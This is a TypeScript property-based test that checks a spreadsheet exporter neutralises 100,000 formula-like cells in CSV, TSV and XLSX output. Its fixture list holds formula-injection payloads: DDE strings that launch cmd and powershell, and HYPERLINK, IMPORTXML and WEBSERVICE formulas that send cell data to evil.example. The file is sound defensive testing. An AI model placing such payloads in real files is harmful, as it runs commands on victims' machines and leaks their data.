import fc from 'fast-check';
import { readXlsx } from 'hucre/xlsx';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvValue } from '@shared/export/csv.ts';
import { readCsv } from '@shared/export/read-csv.ts';
import { sampleField } from '@test/support/samples.ts';
import { unzipped } from '@test/support/unzip.ts';
import { windowsOf } from '@test/support/windows.ts';
import { chunksOf } from './chunks.ts';
import { columnsOf } from './column.ts';

const count = 100_000;

/** Beginnings of formulas, also after characters that spreadsheets ignore; some convert full-width signs to plain ones. */
const signs = [...'=+-@＝＋－＠﹢﹣﹦﹫−'];
const before = fc
  .array(fc.constantFrom(' ', '\u00A0', '\u3000', '\u2003', '"', '\uFEFF', "'", '\t'), { maxLength: 3 })
  .map((parts) => parts.join(''));
const formula = fc.constantFrom(
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"Error")',
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "SUM(1+1)*cmd|' /C powershell'!A0",
  'WEBSERVICE("https://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  '12.5',
  '',
);
const text = fc.oneof(
  {
    arbitrary: fc.tuple(before, fc.constantFrom(...signs), formula).map((parts) => parts.join('')),
    weight: 6,
  },
  {
    arbitrary: fc.tuple(fc.constantFrom(...signs, '\t', '\r', '\n'), fc.string()).map(([a, b]) => a + b),
    weight: 3,
  },
  { arbitrary: fc.string({ unit: 'grapheme' }), weight: 1 },
);

let texts: readonly string[];
beforeAll(() => {
  texts = fc.sample(text, { numRuns: count, seed: 20_261_120 });
});

async function written(format: 'csv' | 'tsv' | 'xlsx'): Promise<Buffer> {
  const fields = ['Name', 'Row'].map((name) => sampleField({ name }));
  const { columns } = columnsOf(['Name', 'Row'], fields, { format, values: 'raw' });
  const layout = { format, values: 'raw', columns, onFinding: () => undefined } as const;
  const chunks: Buffer[] = [];
  const table = { Name: texts, Row: texts.map((_, row) => row) };
  for await (const chunk of chunksOf(layout, windowsOf(table, 5_000))) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks);
}

/** Whether a spreadsheet would compute the content of a cell; a plain number may begin with its sign. */
function isComputed(cell: string): boolean {
  if (/^[\t\r\n]/.test(cell)) return true;
  const [first = ''] = cell.replace(/^[\s"\uFEFF]+/, '');
  return signs.includes(first) && !/^-\d+(?:\.\d+)?$/.test(cell);
}

describe('100,000 cells that begin like formulas', () => {
  it.each([
    ['csv', ','],
    ['tsv', '\t'],
  ] as const)('are computed by no reader of %s, and come back as they were', async (format, separator) => {
    const reading = readCsv((await written(format)).toString(), separator);
    const cells = 'rows' in reading ? reading.rows.slice(1).map(({ cells: [cell = ''] }) => cell) : [];
    expect(cells).toHaveLength(count);
    expect(cells.filter(isComputed).slice(0, 5)).toEqual([]);
    expect(cells.map(csvValue)).toEqual(texts);
  });

  it('are texts in a workbook, and come back as they were', async () => {
    const file = await written('xlsx');
    const sheet = unzipped(file, 'xl/worksheets/sheet1.xml');
    expect(sheet).not.toMatch(/<f[ >/]/);
    const cells = sheet.match(/<c [^>]*>/g) ?? [];
    const filled = texts.filter((one) => one !== '').length;
    expect(cells.filter((cell) => cell.includes('t="inlineStr"')).length).toBeGreaterThan(filled);
    expect(cells.filter((cell) => /t="(?!inlineStr|n)/.test(cell))).toEqual([]);
    const [, ...rows] = (await readXlsx(file)).sheets[0]?.rows ?? [];
    expect(rows.map(([cell]) => cell ?? '')).toEqual(texts);
  });
});
